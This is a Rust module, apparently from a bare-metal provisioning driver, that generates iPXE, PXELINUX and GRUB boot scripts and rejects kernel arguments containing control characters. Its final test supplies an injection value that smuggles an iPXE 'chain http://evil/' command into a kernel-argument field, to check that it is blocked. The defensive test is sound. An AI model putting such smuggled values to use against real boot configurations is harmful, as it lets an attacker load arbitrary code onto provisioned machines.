//! The texts that loaders read (deploy.md §B.11).

use crate::DriverError;
use crate::interface::{InstanceBoot, NodeView, RamdiskParams, RamdiskPurpose, Result};

use super::PxeSettings;

/// File names of kernel and ramdisk in a node's folder.
pub(super) fn file_names(purpose: RamdiskPurpose) -> (&'static str, &'static str) {
    if purpose.is_rescue() {
        ("rescue_kernel", "rescue_ramdisk")
    } else {
        ("deploy_kernel", "deploy_ramdisk")
    }
}

/// The kernel line up to `BOOTIF` and `initrd`, which each loader spells its own way.
///
/// # Errors
/// `Invalid` when a node's `kernel_append_params` would break out of the line.
pub(super) fn kernel_line(node: &NodeView, params: &RamdiskParams, settings: &PxeSettings) -> Result<String> {
    let mut words = vec!["selinux=0".to_owned(), "troubleshoot=0".to_owned(), "text".to_owned()];
    words.extend(appended(node, settings));
    words.push(format!("ipa-api-url={}", params.api_url.trim_end_matches('/')));
    words.extend(params.kernel_args.iter().cloned());
    one_line(&words)
}

/// The kernel line of an instance that boots over the network.
///
/// # Errors
/// `Invalid` when an argument would break out of the line.
pub(super) fn instance_line(node: &NodeView, boot: &InstanceBoot, settings: &PxeSettings) -> Result<String> {
    let mut words = vec!["text".to_owned()];
    words.extend(appended(node, settings));
    words.extend(boot.kernel_args.iter().cloned());
    one_line(&words)
}

/// `kernel_append_params` of the node, else of the configuration.
fn appended(node: &NodeView, settings: &PxeSettings) -> Vec<String> {
    let default = settings.kernel_append_params.as_str();
    let own = node.instance_str("kernel_append_params").or_else(|| node.driver_str("kernel_append_params"));
    let append = own.map_or_else(|| default.to_owned(), |own| own.replace("%default%", default));
    append.split_whitespace().map(str::to_owned).collect()
}

fn one_line(words: &[String]) -> Result<String> {
    let line = words.join(" ");
    if line.chars().any(char::is_control) {
        return Err(DriverError::Invalid {
            section: "driver_info",
            key: "kernel_append_params".to_owned(),
            reason: "kernel arguments must be one line without control characters".to_owned(),
        });
    }
    Ok(line)
}

/// File names of an instance's kernel and ramdisk in a node's folder.
pub(super) const INSTANCE_FILES: (&str, &str) = ("kernel", "ramdisk");

/// A node's script for iPXE: tries ten times with growing pauses, then switches the machine off.
pub(super) fn ipxe_config(base: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
    let ip = if wants_address(line) { " ip=${ip}:${next-server}:${gateway}:${netmask}" } else { "" };
    format!(
        "#!ipxe\n\
         set attempt:int32 0\n\
         :deploy\n\
         imgfree\n\
         kernel {base}/{kernel} {line}{ip} BOOTIF=${{mac}} initrd={ramdisk} || goto failed\n\
         initrd {base}/{ramdisk} || goto failed\n\
         boot || goto failed\n\
         :failed\n\
         inc attempt\n\
         iseq ${{attempt}} 10 && goto give_up ||\n\
         echo Attempt ${{attempt}} of 10 failed, trying again in ${{attempt}} s\n\
         sleep ${{attempt}}\n\
         goto deploy\n\
         :give_up\n\
         echo Cannot load {base}/{kernel} and {ramdisk}; switching off\n\
         sleep 5\n\
         poweroff\n"
    )
}

/// `boot.ipxe`: finds a node's script by the address that iPXE boots from, then by the others.
pub(super) fn boot_ipxe() -> String {
    let mut script = "#!ipxe\n\
        echo Ferric: ${platform} ${mac}\n\
        chain pxelinux.cfg/${mac:hexhyp} ||\n"
        .to_owned();
    for port in 0..8 {
        script.push_str(&format!(
            "isset ${{net{port}/mac}} && chain pxelinux.cfg/${{net{port}/mac:hexhyp}} ||\n"
        ));
    }
    script.push_str("echo Ferric: nothing laid out for this machine\nexit 1\n");
    script
}

/// A node's configuration for PXELINUX.
pub(super) fn pxelinux_config(folder: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
    let ipappend = if wants_address(line) { 3 } else { 2 };
    format!(
        "default deploy\n\
         prompt 0\n\
         label deploy\n\
         \x20 kernel {folder}/{kernel}\n\
         \x20 append initrd={folder}/{ramdisk} {line}\n\
         \x20 ipappend {ipappend}\n"
    )
}

/// Ramdisks that export their disk over iSCSI by themselves take their address from the kernel line (deploy.md §A.1
/// row 4); others ask for one.
fn wants_address(line: &str) -> bool {
    line.split_whitespace().any(|word| word.starts_with("iscsi_target_iqn="))
}

/// A node's script for iPXE that leads to its disk; firmware that cannot goes on to its next device.
pub(super) fn ipxe_disk_config() -> String {
    "#!ipxe\nsanboot --no-describe ||\nexit 1\n".to_owned()
}

/// A node's configuration for PXELINUX that leads to the disk with this identifier.
pub(super) fn pxelinux_disk_config(disk: &str) -> String {
    format!(
        "default boot_whole_disk\n\
         prompt 0\n\
         label boot_whole_disk\n\
         \x20 com32 chain.c32\n\
         \x20 append mbr:{disk}\n"
    )
}

/// A node's configuration for GRUB that leads to its disk: the loader that UEFI would start there.
pub(super) fn grub_disk_config() -> String {
    "set timeout=0\n\
     set default=boot_whole_disk\n\
     menuentry boot_whole_disk {\n\
     \x20 search --no-floppy --file --set=root /EFI/BOOT/BOOTX64.EFI\n\
     \x20 chainloader /EFI/BOOT/BOOTX64.EFI\n\
     \x20 boot\n\
     }\n\
     menuentry next_device {\n\
     \x20 exit 1\n\
     }\n\
     set fallback=next_device\n"
        .to_owned()
}

/// A node's configuration for GRUB.
pub(super) fn grub_config(folder: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
    format!(
        "set timeout=0\n\
         set default=deploy\n\
         menuentry deploy {{\n\
         \x20 linux /{folder}/{kernel} {line} BOOTIF=$net_default_mac\n\
         \x20 initrd /{folder}/{ramdisk}\n\
         }}\n"
    )
}

/// `grub/grub.cfg`, where Debian's signed GRUB looks first: leads to the node's own.
pub(super) fn master_grub() -> &'static str {
    "set timeout=0\n\
     configfile /${net_default_mac}.conf\n\
     configfile /${net_default_ip}.conf\n"
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::boot::tests::node;
    use ferric_machine::BootMode;

    fn params() -> RamdiskParams {
        RamdiskParams {
            purpose: RamdiskPurpose::Deploy,
            boot_mode: BootMode::Bios,
            api_url: "http://10.0.0.1:6385/".to_owned(),
            kernel_args: vec!["ipa-debug=1".to_owned()],
        }
    }

    #[test]
    fn kernel_line_is_ironics_with_the_nodes_own_arguments() {
        let settings = PxeSettings::default();
        let mut node = node();
        assert_eq!(
            kernel_line(&node, &params(), &settings).unwrap(),
            "selinux=0 troubleshoot=0 text nofb vga=normal ipa-api-url=http://10.0.0.1:6385 ipa-debug=1"
        );
        node.driver_info.insert("kernel_append_params".to_owned(), "%default% console=ttyS0".into());
        let line = kernel_line(&node, &params(), &settings).unwrap();
        assert!(line.contains("text nofb vga=normal console=ttyS0 ipa-api-url="), "{line}");
        node.instance_info.insert("kernel_append_params".to_owned(), "quiet".into());
        let line = kernel_line(&node, &params(), &settings).unwrap();
        assert!(line.contains("text quiet ipa-api-url="), "{line}");
    }

    #[test]
    fn only_ramdisks_that_export_their_disk_by_themselves_get_an_address_on_their_line() {
        for (line, own) in [("quiet", false), ("quiet iscsi_target_iqn=iqn-7 text", true)] {
            assert_eq!(ipxe_config("http://h/7", "k", "r", line).contains("ip=${ip}:${next-server}:"), own);
            assert_eq!(pxelinux_config("7", "k", "r", line).contains("ipappend 3"), own);
        }
    }

    #[test]
    fn kernel_arguments_cannot_add_lines_to_a_script() {
        let mut node = node();
        node.driver_info.insert("kernel_append_params".to_owned(), "quiet\u{1b}[2J".into());
        let error = kernel_line(&node, &params(), &PxeSettings::default()).unwrap_err();
        assert!(matches!(error, DriverError::Invalid { .. }), "{error}");
        node.driver_info.insert("kernel_append_params".to_owned(), "quiet\nchain http://evil/".into());
        let line = kernel_line(&node, &params(), &PxeSettings::default()).unwrap();
        assert!(!line.contains('\n'));
    }
}
